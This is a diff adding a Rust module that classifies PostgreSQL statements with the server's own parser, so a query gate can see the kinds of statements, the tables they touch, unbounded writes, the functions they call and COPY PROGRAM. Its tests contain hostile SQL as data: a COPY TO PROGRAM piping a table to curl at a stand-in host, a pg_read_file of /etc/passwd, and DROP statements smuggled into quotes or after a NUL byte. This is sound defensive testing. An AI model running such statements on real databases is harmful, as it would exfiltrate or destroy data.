@@ -1,0 +1,519 @@
+//! SQL as PostgreSQL's own parser sees it (`pg_query`, libpg_query): a
+//! statement string split into its statements, each classified for the
+//! rules: its kind, the tables it reads and writes, whether an UPDATE or
+//! DELETE has a WHERE, the functions it calls, and its fingerprint.
+//!
+//! The server's parser, not a generic SQL parser: dollar quoting, nested
+//! comments, `U&` identifiers and `E''` strings mean here what they mean to
+//! the server, so a statement cannot be hidden from the rules by a parse
+//! differential. Text the parser refuses never reaches the server: the loop
+//! gets the parser's own syntax error (SQLSTATE 42601), as the server would
+//! have sent it.
+//!
+//! Tables are found by walking the whole parse tree (every node the parser
+//! produced, serialised), not a list of known node types: a table named in a
+//! statement kind nobody thought of is still found. The walk is
+//! conservative where the rules need it to be:
+//!
+//! - a CTE named like a table does not hide the table its body reads
+//!   (`WITH pii AS (SELECT * FROM pii) SELECT * FROM pii` reads `pii`);
+//! - an unqualified name is every table it could be on the session's
+//!   `search_path` (`users` with `search_path = app, public` is both
+//!   `app.users` and `public.users`); without a known search path, `public`.
+//!
+//! Functions are those called by name (`FuncCall`: in expressions, `FROM`
+//! clauses and `CALL`), schema-qualified as written; functions reached
+//! through operators, casts or inside a DO block or a function body are not
+//! seen (DO and CALL are classified as such, for rules to refuse them).
+
+use std::collections::{BTreeSet, HashMap, VecDeque};
+use std::sync::{Arc, Mutex};
+
+use serde_json::Value;
+
+/// One statement of a query string.
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub struct Statement {
+    /// This statement's text, as the loop wrote it.
+    pub text: String,
+    /// Lower-case kind: `select`, `insert`, `update`, `delete`, `merge`,
+    /// `drop`, `truncate`, `alter_role`, `create_role`, `grant`, `set`,
+    /// `copy`, `do`, `call`, `transaction`, ... (the parser's statement node,
+    /// without `Stmt`, in snake case, with a few short names).
+    pub kind: String,
+    /// Every table it names (read or written), schema-qualified.
+    pub tables: Vec<String>,
+    /// The tables it writes (the target of INSERT, UPDATE, DELETE, MERGE,
+    /// COPY FROM, TRUNCATE, DROP, CREATE, ALTER, SELECT INTO).
+    pub writes: Vec<String>,
+    /// An UPDATE or DELETE without a WHERE clause.
+    pub unbounded: bool,
+    /// Functions called by name, as written (`pg_catalog.pg_read_file`).
+    pub functions: Vec<String>,
+    /// `COPY ... PROGRAM` (runs a shell command on the server).
+    pub program: bool,
+    /// What the server would run the same way whatever the constants
+    /// (pg_query's fingerprint, hex).
+    pub fingerprint: String,
+}
+
+/// Why a query string was not classified.
+#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
+pub enum SqlError {
+    /// The server's parser refuses it: the message the server would send
+    /// with SQLSTATE 42601.
+    #[error("{0}")]
+    Syntax(String),
+    /// Longer than the classifier takes.
+    #[error("the statement is {0} bytes long, more than loopgate inspects")]
+    TooLong(usize),
+}
+
+/// Longest query string classified (longer ones are refused).
+pub const MAX_SQL: usize = 1 << 20;
+
+/// Splits and classifies `sql`; unqualified table names are resolved
+/// against `search_path` (empty: `public`).
+pub fn classify(sql: &str, search_path: &[String]) -> Result<Vec<Statement>, SqlError> {
+    if sql.len() > MAX_SQL {
+        return Err(SqlError::TooLong(sql.len()));
+    }
+    if sql.contains('\0') {
+        // The server reads a query string up to its NUL.
+        return Err(SqlError::Syntax(
+            "the query string contains a NUL byte".into(),
+        ));
+    }
+    let parsed = pg_query::parse(sql, pg_query::ParserOptions::DEFAULT).map_err(syntax)?;
+    let mut out = Vec::with_capacity(parsed.protobuf.stmts.len());
+    for raw in &parsed.protobuf.stmts {
+        let Some(node) = raw.stmt.as_ref() else {
+            continue;
+        };
+        let text = statement_text(sql, raw.stmt_location, raw.stmt_len);
+        let tree = serde_json::to_value(node.as_ref()).unwrap_or(Value::Null);
+        let (kind_node, body) = match &tree {
+            Value::Object(m) => match m.get("node").and_then(Value::as_object) {
+                Some(inner) => inner
+                    .iter()
+                    .next()
+                    .map_or(("", &Value::Null), |(k, v)| (k.as_str(), v)),
+                None => ("", &Value::Null),
+            },
+            _ => ("", &Value::Null),
+        };
+        let mut found = Found::default();
+        walk(body, None, &mut found);
+        let copy = (kind_node == "CopyStmt").then(|| {
+            (
+                body.get("is_from")
+                    .and_then(Value::as_bool)
+                    .unwrap_or(false),
+                body.get("is_program")
+                    .and_then(Value::as_bool)
+                    .unwrap_or(false),
+            )
+        });
+        // COPY ... TO reads its table; COPY ... FROM writes it.
+        if let Some((false, _)) = copy {
+            found.written.clear();
+        }
+        let unbounded = matches!(kind_node, "UpdateStmt" | "DeleteStmt")
+            && body.get("where_clause").is_none_or(Value::is_null);
+        let qualify = |names: &BTreeSet<Vec<String>>| -> Vec<String> {
+            let mut v: BTreeSet<String> = BTreeSet::new();
+            for n in names {
+                for q in qualified(n, search_path) {
+                    v.insert(q);
+                }
+            }
+            v.into_iter().collect()
+        };
+        let tables = qualify(&found.all);
+        let writes = qualify(&found.written);
+        let fingerprint = pg_query::fingerprint(&text, pg_query::ParserOptions::DEFAULT, 0)
+            .map(|f| f.hex)
+            .unwrap_or_default();
+        out.push(Statement {
+            kind: kind_name(kind_node),
+            tables,
+            writes,
+            unbounded,
+            functions: found.functions.into_iter().collect(),
+            program: copy.is_some_and(|(_, p)| p),
+            fingerprint,
+            text,
+        });
+    }
+    Ok(out)
+}
+
+fn syntax(e: pg_query::Error) -> SqlError {
+    match e {
+        pg_query::Error::Parse(m) => SqlError::Syntax(m),
+        other => SqlError::Syntax(other.to_string()),
+    }
+}
+
+/// The text of one statement (`stmt_len` 0: to the end).
+fn statement_text(sql: &str, location: i32, len: i32) -> String {
+    let start = usize::try_from(location).unwrap_or(0).min(sql.len());
+    let end = match usize::try_from(len) {
+        Ok(0) | Err(_) => sql.len(),
+        Ok(n) => (start + n).min(sql.len()),
+    };
+    sql.get(start..end).unwrap_or(sql).trim().to_owned()
+}
+
+/// `SelectStmt` → `select`; `AlterRoleStmt` → `alter_role`; a few short
+/// names for the ones rules name most.
+fn kind_name(node: &str) -> String {
+    let short = match node {
+        "VariableSetStmt" => Some("set"),
+        "VariableShowStmt" => Some("show"),
+        "TransactionStmt" => Some("transaction"),
+        "CreateStmt" => Some("create_table"),
+        "CreateTableAsStmt" => Some("create_table_as"),
+        "ExplainStmt" => Some("explain"),
+        "" => Some("empty"),
+        _ => None,
+    };
+    if let Some(s) = short {
+        return s.to_owned();
+    }
+    let base = node.strip_suffix("Stmt").unwrap_or(node);
+    let mut out = String::with_capacity(base.len() + 4);
+    for (i, c) in base.chars().enumerate() {
+        if c.is_ascii_uppercase() {
+            if i > 0 {
+                out.push('_');
+            }
+            out.push(c.to_ascii_lowercase());
+        } else {
+            out.push(c);
+        }
+    }
+    out
+}
+
+#[derive(Default)]
+struct Found {
+    /// Names as written: `[catalog,] [schema,] table`.
+    all: BTreeSet<Vec<String>>,
+    written: BTreeSet<Vec<String>>,
+    functions: BTreeSet<String>,
+}
+
+/// Keys under which a statement names the relation it writes.
+const WRITTEN: &[&str] = &["relation", "relations", "rel", "view", "sequence"];
+
+/// Walks every node; `key` is the field this value hangs from in its
+/// statement (for the written relations).
+fn walk(v: &Value, key: Option<&str>, found: &mut Found) {
+    match v {
+        Value::Object(m) => {
+            if let Some(name) = range_var(m) {
+                if key.is_some_and(|k| WRITTEN.contains(&k)) {
+                    found.written.insert(name.clone());
+                }
+                found.all.insert(name);
+            }
+            if let Some(Value::Array(parts)) = m.get("funcname") {
+                // A FuncCall (and CALL's): its name, schema-qualified as written.
+                if m.contains_key("args") || m.contains_key("agg_order") {
+                    let name: Vec<&str> = parts.iter().filter_map(string_node).collect();
+                    if !name.is_empty() {
+                        found.functions.insert(name.join("."));
+                    }
+                }
+            }
+            // DROP TABLE/VIEW names its objects as lists of strings.
+            if let (Some(Value::Array(objects)), Some(t)) = (
+                m.get("objects"),
+                m.get("remove_type").and_then(Value::as_i64),
+            ) {
+                use pg_query::protobuf::ObjectType;
+                let t = i32::try_from(t)
+                    .ok()
+                    .and_then(|t| ObjectType::try_from(t).ok());
+                if matches!(
+                    t,
+                    Some(
+                        ObjectType::ObjectTable
+                            | ObjectType::ObjectView
+                            | ObjectType::ObjectMatview
+                            | ObjectType::ObjectForeignTable
+                    )
+                ) {
+                    for o in objects {
+                        let parts: Vec<String> = o
+                            .pointer("/node/List/items")
+                            .and_then(Value::as_array)
+                            .map(|items| {
+                                items
+                                    .iter()
+                                    .filter_map(string_node)
+                                    .map(str::to_owned)
+                                    .collect()
+                            })
+                            .unwrap_or_default();
+                        if !parts.is_empty() {
+                            found.written.insert(parts.clone());
+                            found.all.insert(parts);
+                        }
+                    }
+                }
+            }
+            for (k, child) in m {
+                // Wrapper keys (`node`, `RangeVar`, ...) keep the field name
+                // the value hangs from.
+                let inner =
+                    if k == "node" || k.chars().next().is_some_and(|c| c.is_ascii_uppercase()) {
+                        key
+                    } else {
+                        Some(k.as_str())
+                    };
+                walk(child, inner, found);
+            }
+        }
+        Value::Array(items) => {
+            for i in items {
+                walk(i, key, found);
+            }
+        }
+        _ => {}
+    }
+}
+
+/// A RangeVar's name parts, whether wrapped in a node or not.
+fn range_var(m: &serde_json::Map<String, Value>) -> Option<Vec<String>> {
+    let rel = m.get("relname")?.as_str()?;
+    m.get("relpersistence")?;
+    let mut parts = Vec::new();
+    for k in ["catalogname", "schemaname"] {
+        if let Some(s) = m.get(k).and_then(Value::as_str).filter(|s| !s.is_empty()) {
+            parts.push(s.to_owned());
+        }
+    }
+    parts.push(rel.to_owned());
+    Some(parts)
+}
+
+/// The value of a `String` node (`{"node": {"String": {"sval": ...}}}`).
+fn string_node(v: &Value) -> Option<&str> {
+    v.pointer("/node/String/sval").and_then(Value::as_str)
+}
+
+/// `schema.table` for each schema the name could be in.
+fn qualified(parts: &[String], search_path: &[String]) -> Vec<String> {
+    match parts {
+        [table] => {
+            let schemas: Vec<&str> = if search_path.is_empty() {
+                vec!["public"]
+            } else {
+                search_path.iter().map(String::as_str).collect()
+            };
+            schemas.iter().map(|s| format!("{s}.{table}")).collect()
+        }
+        [.., schema, table] => vec![format!("{schema}.{table}")],
+        [] => Vec::new(),
+    }
+}
+
+/// Parses each distinct query text once: a bounded cache (least recently
+/// added evicted first), shared by the sessions of a target.
+pub struct Classifier {
+    capacity: usize,
+    inner: Mutex<Cache>,
+}
+
+/// A query string and the search path it was resolved with.
+type Key = (String, Vec<String>);
+/// A classification, shared by the sessions that sent the same text.
+pub type Classified = Arc<Result<Vec<Statement>, SqlError>>;
+/// Entries, and their keys in the order they were added.
+type Cache = (HashMap<Key, Classified>, VecDeque<Key>);
+
+impl Classifier {
+    pub fn new(capacity: usize) -> Self {
+        Classifier {
+            capacity: capacity.max(1),
+            inner: Mutex::new((HashMap::new(), VecDeque::new())),
+        }
+    }
+
+    pub fn classify(&self, sql: &str, search_path: &[String]) -> Classified {
+        let key = (sql.to_owned(), search_path.to_vec());
+        if let Some(hit) = self.inner.lock().ok().and_then(|g| g.0.get(&key).cloned()) {
+            return hit;
+        }
+        let fresh = Arc::new(classify(sql, search_path));
+        if let Ok(mut g) = self.inner.lock() {
+            let (map, order) = &mut *g;
+            if map.insert(key.clone(), fresh.clone()).is_none() {
+                order.push_back(key);
+            }
+            while map.len() > self.capacity {
+                match order.pop_front() {
+                    Some(old) => {
+                        map.remove(&old);
+                    }
+                    None => break,
+                }
+            }
+        }
+        fresh
+    }
+
+    pub fn len(&self) -> usize {
+        self.inner.lock().map(|g| g.0.len()).unwrap_or(0)
+    }
+
+    pub fn is_empty(&self) -> bool {
+        self.len() == 0
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn one(sql: &str) -> Statement {
+        let mut v = classify(sql, &[]).unwrap_or_else(|e| panic!("{sql}: {e}"));
+        assert_eq!(v.len(), 1, "{sql}: {v:?}");
+        v.remove(0)
+    }
+
+    #[test]
+    fn kinds_tables_and_writes() {
+        let s =
+            one("SELECT o.id, c.email FROM orders o JOIN crm.customers c ON c.id = o.customer_id");
+        assert_eq!(s.kind, "select");
+        assert_eq!(s.tables, ["crm.customers", "public.orders"]);
+        assert!(s.writes.is_empty());
+        let s = one("INSERT INTO audit_log SELECT * FROM events WHERE ts > now()");
+        assert_eq!(
+            (s.kind.as_str(), s.writes.as_slice()),
+            ("insert", &["public.audit_log".to_owned()][..])
+        );
+        assert_eq!(s.tables, ["public.audit_log", "public.events"]);
+        assert_eq!(s.functions, ["now"]);
+        let s = one("DROP TABLE IF EXISTS scratch, app.old_orders");
+        assert_eq!(s.kind, "drop");
+        assert_eq!(s.writes, ["app.old_orders", "public.scratch"]);
+        let s = one("TRUNCATE orders");
+        assert_eq!(
+            (s.kind.as_str(), s.writes.as_slice()),
+            ("truncate", &["public.orders".to_owned()][..])
+        );
+        let s = one("CREATE TABLE copy AS SELECT * FROM pii.users");
+        assert_eq!(s.kind, "create_table_as");
+        assert_eq!(s.writes, ["public.copy"]);
+        assert!(s.tables.contains(&"pii.users".to_owned()));
+        let s = one("ALTER ROLE app PASSWORD 'x'");
+        assert_eq!(s.kind, "alter_role");
+        let s = one("SET ROLE admin");
+        assert_eq!(s.kind, "set");
+    }
+
+    #[test]
+    fn update_and_delete_without_where_are_unbounded() {
+        assert!(one("DELETE FROM orders").unbounded);
+        assert!(one("UPDATE orders SET paid = true").unbounded);
+        assert!(!one("DELETE FROM orders WHERE id = 1").unbounded);
+        assert!(!one("UPDATE orders SET paid = true WHERE id = $1").unbounded);
+        assert!(!one("SELECT * FROM orders").unbounded);
+        // A CTE's DELETE is its own statement node inside the SELECT: the
+        // statement is a select (rules on writes still see the table).
+        let s = one("WITH d AS (DELETE FROM orders RETURNING *) SELECT count(*) FROM d");
+        assert_eq!(s.kind, "select");
+        assert!(s.writes.contains(&"public.orders".to_owned()), "{s:?}");
+    }
+
+    #[test]
+    fn multi_statement_strings_are_split_where_the_server_splits_them() {
+        let v = classify("DROP TABLE scratch; insert into t values (1)", &[]).unwrap();
+        let kinds: Vec<&str> = v.iter().map(|s| s.kind.as_str()).collect();
+        assert_eq!(kinds, ["drop", "insert"]);
+        assert_eq!(v[0].text, "DROP TABLE scratch");
+        assert_eq!(v[1].text, "insert into t values (1)");
+        // What a naive splitter would cut is one statement to the server.
+        for sql in [
+            "select $$ ; drop table x $$",
+            "select $tag$ ; drop table x $tag$",
+            "select 1 /* outer /* nested ; drop table x */ still a comment */",
+            "select E'it''s \\' ; drop table x'",
+            "select U&\"d\\0061ta\" from t",
+        ] {
+            let v = classify(sql, &[]).unwrap_or_else(|e| panic!("{sql}: {e}"));
+            assert_eq!(v.len(), 1, "{sql}: {v:?}");
+            assert_eq!(v[0].kind, "select", "{sql}");
+            assert!(!v[0].tables.contains(&"public.x".to_owned()), "{sql}");
+        }
+        // U& identifiers are the table they spell.
+        assert_eq!(one("select * from U&\"d\\0061ta\"").tables, ["public.data"]);
+    }
+
+    #[test]
+    fn ctes_and_search_paths_do_not_hide_tables() {
+        let s = one("WITH pii AS (SELECT * FROM pii) SELECT * FROM pii");
+        assert_eq!(s.tables, ["public.pii"]);
+        let path = vec!["app".to_owned(), "public".to_owned()];
+        let v = classify("SELECT * FROM users", &path).unwrap();
+        assert_eq!(v[0].tables, ["app.users", "public.users"]);
+    }
+
+    #[test]
+    fn functions_copy_program_do_and_call() {
+        let s = one("SELECT pg_catalog.pg_read_file('/etc/passwd'), lower(name) FROM pg_ls_dir('.') AS name");
+        assert_eq!(
+            s.functions,
+            ["lower", "pg_catalog.pg_read_file", "pg_ls_dir"]
+        );
+        let s = one("COPY orders TO PROGRAM 'curl -d @- https://x'");
+        assert_eq!((s.kind.as_str(), s.program), ("copy", true));
+        assert!(s.writes.is_empty(), "COPY TO reads: {s:?}");
+        let s = one("COPY orders FROM STDIN");
+        assert_eq!(
+            (s.program, s.writes.as_slice()),
+            (false, &["public.orders".to_owned()][..])
+        );
+        assert_eq!(one("DO $$ BEGIN PERFORM pg_sleep(1); END $$").kind, "do");
+        let s = one("CALL app.refresh(1)");
+        assert_eq!(
+            (s.kind.as_str(), s.functions.as_slice()),
+            ("call", &["app.refresh".to_owned()][..])
+        );
+    }
+
+    #[test]
+    fn what_the_parser_refuses_is_its_own_syntax_error() {
+        assert_eq!(
+            classify("l'acqua e' poca", &[]),
+            Err(SqlError::Syntax("syntax error at or near \"l\"".into()))
+        );
+        assert!(matches!(
+            classify("select 1\0; drop table x", &[]),
+            Err(SqlError::Syntax(_))
+        ));
+        let long = format!("select '{}'", "x".repeat(MAX_SQL));
+        assert!(matches!(classify(&long, &[]), Err(SqlError::TooLong(_))));
+        // Constants do not change the fingerprint; the shape does.
+        let a = one("SELECT * FROM orders WHERE id = 1");
+        let b = one("select * from orders where id = 42");
+        let c = one("SELECT * FROM orders WHERE id > 1");
+        assert_eq!(a.fingerprint, b.fingerprint);
+        assert_ne!(a.fingerprint, c.fingerprint);
+    }
+
+    #[test]
+    fn the_cache_parses_each_text_once_and_stays_bounded() {
+        let c = Classifier::new(2);
+        let a = c.classify("select 1", &[]);
+        let again = c.classify("select 1", &[]);
+        assert!(Arc::ptr_eq(&a, &again));
+        c.classify("select 2", &[]);
+        c.classify("select 3", &[]);
+        assert_eq!(c.len(), 2);
+    }
+}
